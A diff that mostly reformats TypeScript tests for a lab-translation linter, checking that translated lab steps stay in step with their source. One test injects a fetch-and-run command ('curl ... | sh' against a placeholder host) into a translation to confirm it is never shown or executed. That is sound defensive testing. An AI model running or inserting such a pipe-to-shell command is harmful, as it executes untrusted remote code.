@@ -13,7 +13,13 @@ const es = translationOf(source, 'es');
 async function lint(translation: string) {
   const dir = labsDir(SOURCE_FILE, { es: translation });
   const r = await isolab(['lint', dir]);
-  return { ...r, lines: r.stdout.split('\n').filter(Boolean).map((l) => l.replace(`${dir}/`, '')) };
+  return {
+    ...r,
+    lines: r.stdout
+      .split('\n')
+      .filter(Boolean)
+      .map((l) => l.replace(`${dir}/`, '')),
+  };
 }
 
 describe('translation lint keeps translations in step with the source', () => {
@@ -27,15 +33,21 @@ describe('translation lint keeps translations in step with the source', () => {
     const bad = es.replace('ps -e -o pid,comm', 'ps -e \u2013o pid,comm');
     const r = await lint(bad);
     expect(r.exitCode).toBe(1);
-    const line = bad.split('\n').findIndex((l) => l.includes('\u2013o pid')) ;
-    expect(r.lines[0]).toMatch(new RegExp(`^es/process-lab\\.md:${line}: code differs from the source \\(.*process-lab\\.md:\\d+\\): source has "ps -e -o pid,comm", translation has "ps -e \u2013o pid,comm" \\(U\\+2013 is not an ASCII character\\)$`));
+    const line = bad.split('\n').findIndex((l) => l.includes('\u2013o pid'));
+    expect(r.lines[0]).toMatch(
+      new RegExp(
+        `^es/process-lab\\.md:${line}: code differs from the source \\(.*process-lab\\.md:\\d+\\): source has "ps -e -o pid,comm", translation has "ps -e \u2013o pid,comm" \\(U\\+2013 is not an ASCII character\\)$`,
+      ),
+    );
   });
 
   it('catches a missing step and an extra step', async () => {
     const missing = es.replace(/## \[es\] Stop it[\s\S]*?(?=## \[es\] It is gone)/, '');
     expect((await lint(missing)).lines).toContainEqual(expect.stringMatching(/step "stop" of the source \(.*:\d+\) is missing/));
     const extra = `${es}\n## [es] Extra\n\n<!-- isolab step: extra -->\n`;
-    expect((await lint(extra)).lines).toContainEqual(expect.stringMatching(/^es\/process-lab\.md:\d+: step "extra" is not in the source lab/));
+    expect((await lint(extra)).lines).toContainEqual(
+      expect.stringMatching(/^es\/process-lab\.md:\d+: step "extra" is not in the source lab/),
+    );
   });
 
   it('catches a translation made from an older version of the source, and one that does not say', async () => {
@@ -43,10 +55,14 @@ describe('translation lint keeps translations in step with the source', () => {
     const hash = lab.steps[0]!.sourceHash;
     const stale = es.replace(`from: ${hash}`, 'from: 0123456789ab');
     const r = await lint(stale);
-    expect(r.lines).toContainEqual(expect.stringMatching(new RegExp(`step "start" was translated from an older source \\(from: 0123456789ab, source is now ${hash}\\)`)));
+    expect(r.lines).toContainEqual(
+      expect.stringMatching(new RegExp(`step "start" was translated from an older source \\(from: 0123456789ab, source is now ${hash}\\)`)),
+    );
     expect(r.stdout).toContain(`hint: update the translation to the source, then set from: ${hash}`);
     const unstamped = es.replace(`from: ${hash}\n`, '');
-    expect((await lint(unstamped)).lines).toContainEqual(expect.stringMatching(/step "start" does not record which source version it translates/));
+    expect((await lint(unstamped)).lines).toContainEqual(
+      expect.stringMatching(/step "start" does not record which source version it translates/),
+    );
   });
 
   it('a changed source makes its translation stale', async () => {
@@ -57,7 +73,7 @@ describe('translation lint keeps translations in step with the source', () => {
     expect(text.steps.start!.state).toBe('stale');
     expect(text.steps.start!.prose).toContain('We launch');
     expect(text.steps.find!.state).toBe('translated');
-    expect(text.steps.find!.title).toBe('[es] Find it in the host\'s process table');
+    expect(text.steps.find!.title).toBe("[es] Find it in the host's process table");
   });
 
   it('at run time a missing step falls back to the source text with a visible marker', async () => {
@@ -65,7 +81,7 @@ describe('translation lint keeps translations in step with the source', () => {
     const dir = labsDir(SOURCE_FILE, { es: missing });
     const r = await isolab(['run', join(dir, 'process-lab.md'), '--yes', '--lang', 'es']);
     expect(r.exitCode).toBe(0);
-    expect(r.stdout).toContain('[es] Find it in the host\'s process table');
+    expect(r.stdout).toContain("[es] Find it in the host's process table");
     expect(r.stdout).toMatch(/\] Stop it \[en\]/);
   });
 });
@@ -83,10 +99,12 @@ describe('translation lint also compares example output', () => {
 describe('at run time a translation never brings code of its own', () => {
   const curl = 'curl -s https://example.invalid/x.sh | sh';
 
-  it('the body a learner reads shows the source\'s code blocks, {norun} ones included', () => {
+  it("the body a learner reads shows the source's code blocks, {norun} ones included", () => {
     const translated = es.replace('ps -e -o pid,comm', curl);
     const text = localize(parse(source), parseTranslated(translated, 'es.md'));
-    const shown = Object.values(text.steps).flatMap((s) => s.body.filter((p) => p.kind === 'code').map((p) => (p as { code: string }).code));
+    const shown = Object.values(text.steps).flatMap((s) =>
+      s.body.filter((p) => p.kind === 'code').map((p) => (p as { code: string }).code),
+    );
     expect(shown).toContain('ps -e -o pid,comm');
     expect(shown.join('\n')).not.toContain('curl');
   });
@@ -95,7 +113,9 @@ describe('at run time a translation never brings code of its own', () => {
     const translated = es.replace('ps -e -o pid,comm', curl);
     const dir = labsDir(SOURCE_FILE, { es: translated });
     const r = await isolab(['run', join(dir, 'process-lab.md'), '--yes', '--lang', 'es', '--quiet']);
-    expect(r.stderr).toMatch(/aviso: .*es\/process-lab\.md:\d+: el código no coincide con el origen \(.*process-lab\.md:\d+\): el origen tiene "ps -e -o pid" y la traducción tiene "curl -s http"/);
+    expect(r.stderr).toMatch(
+      /aviso: .*es\/process-lab\.md:\d+: el código no coincide con el origen \(.*process-lab\.md:\d+\): el origen tiene "ps -e -o pid" y la traducción tiene "curl -s http"/,
+    );
     expect(r.stdout).not.toContain('[es]');
     expect(r.stdout).not.toContain('curl');
     expect(r.exitCode).toBe(0);
